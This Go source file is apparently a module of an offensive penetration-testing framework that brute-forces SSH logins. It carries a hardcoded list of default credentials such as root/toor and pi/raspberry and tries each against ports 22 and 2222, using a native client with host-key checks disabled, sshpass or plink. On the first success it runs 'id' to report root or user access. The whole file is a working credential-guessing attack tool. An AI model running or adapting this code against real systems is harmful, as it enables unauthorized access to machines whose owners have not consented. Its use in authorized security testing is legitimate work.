package ssh

import (
	"bufio"
	"context"
	"strings"
	"time"

	"bytemomo/harpoon/internal/domain"
	"bytemomo/harpoon/internal/exploit"
	"bytemomo/harpoon/internal/modules/dictionary"
	"bytemomo/harpoon/internal/toolexec"

	"github.com/sirupsen/logrus"
	gossh "golang.org/x/crypto/ssh"
)

const ModuleID = "ssh_bruteforce"

var defaultSSHCreds = []dictionary.Credential{
	dictionary.NewCredential("root", "root", true),
	dictionary.NewCredential("root", "toor", true),
	dictionary.NewCredential("root", "password", true),
	dictionary.NewCredential("admin", "admin", true),
	dictionary.NewCredential("admin", "password", true),
	dictionary.NewCredential("admin", "123456", true),
	dictionary.NewCredential("pi", "raspberry", true),
	dictionary.NewCredential("ubuntu", "ubuntu", true),
	dictionary.NewCredential("user", "user", true),
	dictionary.NewCredential("root", "", true),
	dictionary.NewCredential("admin", "", true),
}

func Init() {
	exploit.Register(exploit.Descriptor{
		ID:       ModuleID,
		Name:     "SSH Credential Bruteforce",
		Services: []string{"ssh"},
		Ports:    []uint16{22, 2222},
		Description: `Tries a dictionary of default SSH credentials and runs id on the first
login that succeeds to report the access level.`,
		Run: runBruteforce,
	})
}

// attemptFunc tries one credential and returns the output of id on success.
type attemptFunc func(ctx context.Context, cred dictionary.Credential) (string, bool)

func runBruteforce(ctx context.Context, target domain.ServiceTarget, res exploit.Resources, emit *exploit.Emitter) error {
	creds, err := dictionary.LoadCredentials(res.Params, defaultSSHCreds)
	if err != nil {
		return err
	}

	emit.Commandf("[>] Testing %d credential pairs against SSH", len(creds))

	attempt := selectAttempt(target, res, emit)
	if attempt == nil {
		bannerOnly(ctx, target, res, emit)
		return nil
	}

	logger := res.Log.WithField("credentials", len(creds))
	pacer := exploit.NewPacer(res.Config.AttemptGap())
	for _, cred := range creds {
		if !emit.Outputf("    Testing %s ...", cred) {
			return ctx.Err()
		}
		if err := pacer.Wait(ctx); err != nil {
			return ctx.Err()
		}

		out, ok := attempt(ctx, cred)
		if !ok {
			continue
		}

		logger.WithField("username", cred.Username).Info("SSH login succeeded")
		emit.Successf("[+] SUCCESS: %s", cred)
		emit.Outputf("    Shell output: %s", out)
		emit.Successf("[+] Access level: %s", accessFromID(out))
		return nil
	}

	if ctx.Err() != nil {
		return ctx.Err()
	}
	emit.Errorf("[-] No valid credentials found")
	return nil
}

// selectAttempt prefers the in-process client, then sshpass, then plink.
func selectAttempt(target domain.ServiceTarget, res exploit.Resources, emit *exploit.Emitter) attemptFunc {
	switch {
	case res.Caps.NativeSSH:
		return nativeAttempt(target, res)
	case res.Caps.SSHPassPath != "":
		emit.Infof("[*] Using sshpass for credential testing")
		return helperAttempt(res, res.Caps.SSHPassPath, func(c dictionary.Credential) []string {
			return toolexec.SSHPassArgs(c.Username, c.Password, target.Host, target.Port)
		})
	case res.Caps.PlinkPath != "":
		emit.Infof("[*] Using plink for credential testing")
		return helperAttempt(res, res.Caps.PlinkPath, func(c dictionary.Credential) []string {
			return toolexec.PlinkArgs(c.Username, c.Password, target.Host, target.Port)
		})
	}
	return nil
}

func nativeAttempt(target domain.ServiceTarget, res exploit.Resources) attemptFunc {
	addr := target.HostPort.String()
	return func(ctx context.Context, cred dictionary.Credential) (string, bool) {
		conn, err := res.Dial(ctx, addr)
		if err != nil {
			return "", false
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		defer stop()

		_ = conn.SetDeadline(time.Now().Add(res.ConnectTimeout()))
		cfg := &gossh.ClientConfig{
			User:            cred.Username,
			Auth:            []gossh.AuthMethod{gossh.Password(cred.Password)},
			HostKeyCallback: gossh.InsecureIgnoreHostKey(),
			Timeout:         res.ConnectTimeout(),
		}
		c, chans, reqs, err := gossh.NewClientConn(conn, addr, cfg)
		if err != nil {
			res.Log.WithFields(logrus.Fields{"username": cred.Username}).WithError(err).Debug("SSH login rejected")
			return "", false
		}
		client := gossh.NewClient(c, chans, reqs)
		defer client.Close()

		_ = conn.SetDeadline(time.Now().Add(res.ReadTimeout()))
		session, err := client.NewSession()
		if err != nil {
			return "", false
		}
		defer session.Close()

		// A non-zero exit from id still proves the login.
		out, _ := session.Output("id")
		return strings.TrimSpace(string(out)), true
	}
}

func helperAttempt(res exploit.Resources, path string, args func(dictionary.Credential) []string) attemptFunc {
	return func(ctx context.Context, cred dictionary.Credential) (string, bool) {
		out, err := res.Exec.Run(ctx, res.HelperTimeout(), path, args(cred)...)
		if err != nil {
			res.Log.WithError(err).Debug("SSH helper failed")
			return "", false
		}
		stdout := strings.TrimSpace(out.Stdout)
		return stdout, out.ExitCode == 0 && stdout != ""
	}
}

func bannerOnly(ctx context.Context, target domain.ServiceTarget, res exploit.Resources, emit *exploit.Emitter) {
	conn, err := res.Dial(ctx, target.HostPort.String())
	if err != nil {
		emit.Infof("[*] Connection failed to %s", target.HostPort)
	} else {
		_ = conn.SetReadDeadline(time.Now().Add(res.ReadTimeout()))
		line, _ := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		emit.Outputf("    Banner: %s", strings.TrimSpace(line))
	}
	emit.Errorf("[!] No SSH auth tool available, banner only")
}

func accessFromID(out string) domain.AccessLevel {
	if strings.Contains(out, "uid=0") {
		return domain.AccessRoot
	}
	return domain.AccessUser
}
